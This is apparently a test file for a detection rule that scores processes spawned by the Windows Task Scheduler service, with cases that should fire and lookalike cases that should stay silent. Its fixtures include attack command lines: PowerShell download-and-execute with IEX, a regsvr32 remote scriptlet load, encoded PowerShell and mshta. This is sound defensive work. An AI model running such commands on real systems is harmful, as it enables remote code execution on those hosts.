import { describe, expect, test } from 'vitest';
import { t1053WinTaskEngineSpawn as alert } from '../../../src/t1053/extended/win-task-engine.ts';
import { process } from '../events.ts';
import { scores } from './host-run.ts';

const SYSTEM = 'C:\\Windows\\System32\\';
const ENGINE = {
  parentImage: `${SYSTEM}svchost.exe`,
  parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
};
const spawned = (program: string, rest: string, more = {}) =>
  process(`${program} ${rest}`, { image: `${SYSTEM}${program}`, ...ENGINE, ...more });
const PUBLIC = 'C:\\Users\\Public\\x.vbs';

describe('what fires', () => {
  test.each([
    [spawned('wscript.exe', PUBLIC), 30],
    [spawned('mshta.exe', 'C:\\ProgramData\\x.hta'), 45],
    [spawned('powershell.exe', '-enc SQBFAFgAIAAoAE4A'), 35],
    [spawned('powershell.exe', '-c "IEX (iwr https://host/x)"'), 35],
    [spawned('regsvr32.exe', '/s /i:http://host/x.sct scrobj.dll'), 50],
    [spawned('cmd.exe', `/c ${PUBLIC} https://host/x`), 50],
  ])('row %#', (event, score) => {
    expect(scores(alert, event)).toEqual([score]);
  });

  test('the engines of older systems', () => {
    const shared = { parentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs' };
    expect(scores(alert, spawned('wscript.exe', PUBLIC, shared))).toEqual([15]);
    const old = { parentImage: `${SYSTEM}taskeng.exe`, parentCommandLine: undefined };
    expect(scores(alert, spawned('wscript.exe', PUBLIC, old))).toEqual([30]);
  });

  test('an engine that only its own record shows', () => {
    const engine = process(ENGINE.parentCommandLine, { image: ENGINE.parentImage, pid: 8 });
    const child = { parentPid: 8, parentCommandLine: undefined, atMs: 9 };
    expect(scores(alert, engine, spawned('wscript.exe', PUBLIC, child))).toEqual([30]);
  });
});

describe('what looks alike', () => {
  test.each([
    ['a script of the system', spawned('cscript.exe', `${SYSTEM}gatherNetworkInfo.vbs`)],
    ['a program of a user', spawned('OneDrive.exe', 'C:\\Users\\u\\AppData\\Local\\x.exe')],
    ['a shell without a file', spawned('cmd.exe', '/c ver')],
    [
      'another service',
      spawned('wscript.exe', PUBLIC, { parentCommandLine: 'svchost.exe -k netsvcs -s BITS' }),
    ],
    [
      'another group',
      spawned('wscript.exe', PUBLIC, { parentCommandLine: 'svchost.exe -k LocalService' }),
    ],
    [
      'another parent',
      spawned('wscript.exe', PUBLIC, { parentImage: 'C:\\Windows\\explorer.exe' }),
    ],
    ['nobody knows which', spawned('wscript.exe', PUBLIC, { parentCommandLine: undefined })],
  ])('%s is silent', (_, event) => {
    expect(scores(alert, event)).toEqual([]);
  });
});
